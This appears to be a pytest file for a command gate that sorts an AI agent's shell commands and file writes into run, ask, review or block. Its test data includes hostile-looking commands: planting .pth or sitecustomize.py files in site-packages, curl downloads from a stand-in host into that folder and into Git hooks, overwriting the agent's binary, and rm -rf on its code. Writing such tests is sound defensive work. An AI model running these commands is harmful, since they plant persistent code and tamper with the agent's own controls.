"""Atlas's own code, Git's hooks and the folders above the home: asked about or reviewed, by command and by file tool."""

from __future__ import annotations

import sys
from dataclasses import replace
from pathlib import Path

import pytest

from atlas_gate.corpus import corpus_world
from atlas_gate.file_rules import judge_path
from atlas_gate.ground import code_folders, start_folders
from atlas_gate.judge import judge

SITE = "/opt/atlas/lib/python3.12/site-packages"
WORLD = replace(
    corpus_world({}),
    code_folders=(f"{SITE}/atlas_kernel", "/home/robin/src/atlas/kernel/src/atlas_kernel"),
    start_folders=("/opt/atlas", SITE),
)


@pytest.mark.parametrize(
    "command",
    [
        f"echo x > {SITE}/atlas_kernel/main.py",
        f"sed -i s/ask/run/ {SITE}/atlas_kernel/gate.py",
        "cd ~/src/atlas/kernel/src && sed -i s/a/b/ atlas_kernel/turn.py",
        f"cp evil.py {SITE}/atlas_kernel/",
        f"echo 'import os' > {SITE}/evil.pth",
        f"cp evil.pth {SITE}",
        f"cp -t {SITE} evil.pth",
        f"curl -o {SITE}/sitecustomize.py http://x.test/a",
        f"curl -O --output-dir {SITE} http://x.test/evil.pth",
        f"touch {SITE}/usercustomize.py",
        "echo x >> /opt/atlas/pyvenv.cfg",
        "cp evil /opt/atlas/bin/atlas",
        "ln -sf /tmp/evil /opt/atlas/bin/python3",
        f"tar xf x.tar -C {SITE}",
        f"unzip x.whl -d {SITE}",
        f"mv {SITE}/atlas_kernel /tmp",
        f"rm -rf {SITE}",
        f"python3 -c \"open('{SITE}/atlas_kernel/main.py','w')\"",
        f"git clone https://x.test/a {SITE}/atlas_kernel",
        f"patch {SITE}/atlas_kernel/main.py x.diff",
    ],
)
def test_a_command_that_changes_the_code_atlas_runs_from_asks(command):
    judgement = judge(command, WORLD)

    assert (judgement.verdict.word, judgement.rule) == ("ask", "outward.atlas-code")


@pytest.mark.parametrize(
    "command",
    [
        f"cat {SITE}/atlas_kernel/main.py",
        f"grep -rn x {SITE}/atlas_kernel",
        f"ls {SITE}",
        f"cp {SITE}/atlas_kernel/main.py /tmp",
        f"touch {SITE}/other.py",
        f"echo x > {SITE}/other/evil.pth",
        "echo x > sitecustomize.py",
        "cp a.pth b.pth",
        "mv atlas_kernel.txt atlas_other.txt",
        "touch atlas_kernel/x.py",
    ],
)
def test_reading_it_and_writing_elsewhere_runs(command):
    assert judge(command, WORLD).verdict.word == "run"


@pytest.mark.parametrize(
    "command",
    [
        "cp hook .git/hooks/pre-commit",
        "cp -r hooks/pre-push .git/hooks",
        "echo x > .git/hooks/post-checkout",
        "ln -s ../../hook .git/hooks/pre-commit",
        "tee -a .git/config < x",
        "sed -i s/a/b/ .git/config",
        "echo x > .git/modules/sub/hooks/pre-commit",
        "curl -o .git/hooks/pre-commit http://x.test/a",
        "tar xf x.tar -C ~",
        "tar -xzf x.tgz -C /home",
        "tar xf x.tar -C /",
        "cd ~ && tar xf x.tar",
        "cd ~ && unzip x.zip",
        "unzip x.zip -d ~",
        "unzip -o x.zip -d /home/robin",
        "7z x a.7z -o/home/robin",
        "bsdtar -xf x -C ~/",
    ],
)
def test_writing_what_git_runs_or_unpacking_over_the_home_is_reviewed(judged, command):
    judgement = judged(command)

    assert (judgement.verdict.word, judgement.rule) == ("review", "danger.sensitive-file")


@pytest.mark.parametrize(
    "command",
    [
        "cat .git/config",
        "ls .git/hooks",
        "cp .git/hooks/pre-commit /tmp",
        "echo x > .gitignore",
        "echo x > .github/config",
        "git config user.name robin",
        "chmod +x .git/hooks/pre-commit",
        "tar xf x.tar",
        "tar xf x.tar -C ~/work",
        "tar tf x.tar -C ~",
        "tar czf x.tgz -C ~/work app",
        "unzip -l x.zip",
        "cd ~ && unzip -l x.zip",
        "unzip x.zip -d ~/work/x",
        "7z l a.7z",
        "7z x a.7z -oout",
    ],
)
def test_their_harmless_look_alikes_run(judged, command):
    assert judged(command).verdict.word == "run"


def _file(path: Path, tmp_path: Path, *, writes: bool = True, own: str = ".atlas") -> str:
    home = tmp_path / "home"
    others = tuple(str(home / one) for one in (".atlas", ".atlas/homes/other") if one != own)
    code = ((str(tmp_path / "site/atlas_kernel"),), (str(tmp_path / "site"),))
    found = judge_path(path, writes=writes, home=home, atlas_home=home / own, others=others, code=code)
    return "run" if found is None else f"{found.verdict.word} {found.rule}"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("site/atlas_kernel/main.py", "ask file.atlas-code"),
        ("site/evil.pth", "ask file.atlas-code"),
        ("site/sitecustomize.py", "ask file.atlas-code"),
        ("site/other/main.py", "run"),
        ("home/work/evil.pth", "run"),
        ("home/work/.git/hooks/pre-commit", "ask file.git"),
        ("home/work/.git/config", "ask file.git"),
        ("home/work/.git/modules/a/b/hooks/pre-commit", "ask file.git"),
        ("home/work/.git/modules/a/config", "ask file.git"),
        ("home/work/.git/description", "run"),
        ("home/work/.gitconfig", "run"),
        ("home/work/git/hooks/x", "run"),
        ("home/.atlas/SOUL.md", "run"),
        ("home/.atlas/homes/new/config.toml", "ask file.atlas-home"),
        ("home/.atlas/homes/other/memory/x", "ask file.atlas-home"),
        ("home/.atlas/current-home", "ask file.atlas-home"),
        ("home/.atlas/homes/other/secrets/vault.json", "block file.vault"),
    ],
)
def test_a_file_tool_writes_these_only_as_they_may_be(tmp_path, name, expected):
    assert _file(tmp_path / name, tmp_path) == expected


def test_a_file_tool_writes_another_home_only_when_allowed(tmp_path):
    path = tmp_path / "home/.atlas/SOUL.md"

    assert _file(path, tmp_path, own=".atlas/homes/other") == "ask file.atlas-home"


def test_a_file_tool_reads_them_freely(tmp_path):
    assert _file(tmp_path / "home/work/.git/config", tmp_path, writes=False) == "run"
    assert _file(tmp_path / "site/atlas_kernel/main.py", tmp_path, writes=False) == "run"


def test_the_folders_of_this_installation_are_found():
    own = Path(sys.modules["atlas_gate"].__path__[0])

    assert str(own.resolve()) in code_folders()
    assert any(folder.endswith("site-packages") for folder in start_folders())
